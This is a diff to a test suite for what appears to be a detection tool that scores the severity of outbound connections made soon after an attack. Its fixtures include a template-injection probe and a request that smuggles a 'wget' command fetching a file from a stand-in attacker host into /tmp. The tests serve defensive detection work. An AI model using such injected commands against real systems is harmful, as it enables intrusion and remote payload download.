@@ -60,11 +60,23 @@ describe('weighs', () => {
   });
 
   test('what comes within minutes after an attack most, whatever the order of rows', () => {
-    expect(severities(attack, fetch(60, '10.0.1.5:80'))).toEqual(['high']);
-    expect(severities(fetch(60, '10.0.1.5:80'), attack)).toEqual(['high']);
-    expect(severities(attack, fetch(1200, '10.0.1.5:80'))).toEqual(['low']);
+    expect(severities(attack, fetch(60, '203.0.113.9:80'))).toEqual(['high']);
+    expect(severities(fetch(60, '203.0.113.9:80'), attack)).toEqual(['high']);
+    expect(severities(attack, fetch(60, '10.0.1.5:80'))).toEqual(['medium']);
+    expect(severities(attack, fetch(1200, '203.0.113.9:80'))).toEqual(['medium']);
     const probe = http(0, '198.51.100.66:5000', '10.0.1.12:80', '/?q={{7*7}}');
     expect(severities(probe, fetch(60, '10.0.1.5:80'))).toEqual(['low']);
+  });
+
+  test('what comes from the attacker or from an end that the attack named most of all', () => {
+    expect(severities(attack, fetch(60, '198.51.100.66:80'))).toEqual(['high']);
+    const naming = http(0, '198.51.100.66:5000', '10.0.1.12:80', '/?c=;wget http://kit.example/a -O /tmp/a');
+    expect(severities(naming, fetch(60, '10.0.1.5:80', { host: 'kit.example' }))).toEqual(['high']);
+  });
+
+  test('no place that the machine knew before the attack', () => {
+    const routine = [fetch(-3600, '203.0.113.9:80'), attack, fetch(60, '203.0.113.9:80')];
+    expect(severities(...routine)).toEqual(['medium']);
   });
 
   test('package mirrors hardly ever', () => {
